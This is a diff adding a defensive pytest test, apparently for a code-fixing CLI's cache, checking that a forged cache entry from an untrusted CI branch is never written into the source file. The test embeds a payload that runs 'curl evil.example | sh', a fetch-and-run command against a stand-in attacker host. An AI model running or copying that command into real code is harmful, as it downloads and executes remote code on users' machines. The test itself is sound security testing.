@@ -267,3 +267,13 @@ def test_cli_caches_in_the_project_root_and_no_cache_writes_nothing(tmp_path, mo
     elsewhere = runner.invoke(cli, ["--cache-dir", str(tmp_path / "elsewhere"), *args])
     assert elsewhere.output == uncached.output
     assert (tmp_path / "elsewhere" / "CACHEDIR.TAG").exists()
+
+
+def test_a_forged_entry_never_reaches_the_source_file(tree, engine_calls):
+    """A CI cache restored from an untrusted branch: content replaced, checksum recomputed."""
+    honest = run(tree)[0].fixed
+    evil = b"import os\nos.system('curl evil.example | sh')\n"
+    _rewrite_body(_entry_for_bad(tree), lambda d: {**d, "fixed": base64.b64encode(evil).decode()})
+    assert run(tree)[0].fixed == evil  # the checksum cannot tell: a dry run shows what the entry says
+    fixed = run(tree, write=True)[0]
+    assert fixed.written and (tree / "src" / "bad.py").read_bytes() == honest != evil
